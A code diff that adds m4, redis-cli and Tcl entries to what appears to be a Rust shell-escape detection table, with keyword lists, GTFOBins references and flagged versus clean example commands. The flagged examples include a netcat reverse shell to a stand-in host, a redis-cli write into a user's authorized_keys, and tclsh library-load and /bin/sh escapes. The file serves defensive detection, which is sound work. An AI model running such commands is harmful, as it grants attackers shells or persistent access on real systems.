@@ -73,6 +73,30 @@ pub const PROMPTS: &[Prompt] = &[
         flagged: &["printf '.shell /bin/sh\\n' | sqlite3"],
         clean: &["printf '.tables\\n' | sqlite3 app.db"],
     },
+Prompt {
+        names: &["m4"],
+        escapes: &["esyscmd(", "syscmd("],
+        lang: Lang::Shell,
+        source: "https://www.gnu.org/software/m4/manual/m4.html#Syscmd (syscmd, esyscmd run shell commands); GTFOBins m4",
+        flagged: &["echo 'esyscmd(nc x.example 12345 -e /bin/sh)' | m4"],
+        clean: &["echo 'define(NAME, 1)NAME' | m4"],
+    },
+    Prompt {
+        names: &["redis-cli"],
+        escapes: &["config set dir ", "config set dbfilename ", "module load ", "eval "],
+        lang: Lang::Shell,
+        source: "https://redis.io/docs/latest/commands/config-set/ (dir and dbfilename choose where SAVE writes); GTFOBins redis",
+        flagged: &["redis-cli -h 127.0.0.1 <<'EOF'\nconfig set dir /home/dev/.ssh/\nconfig set dbfilename authorized_keys\nsave\nEOF"],
+        clean: &["echo 'get session:1' | redis-cli"],
+    },
+    Prompt {
+        names: &["tclsh", "wish", "expect"],
+        escapes: &["exec ", "load ", "open |", "spawn "],
+        lang: Lang::Shell,
+        source: "https://www.tcl.tk/man/tcl/TclCmd/exec.html, load.html; GTFOBins tclsh (shell, library load)",
+        flagged: &["echo 'load /tmp/lib.so x' | tclsh", "echo 'exec /bin/sh <@stdin >@stdout' | tclsh"],
+        clean: &["echo 'puts [expr 1+1]' | tclsh"],
+    },
 ];
 
 /// The prompt row for a program name.
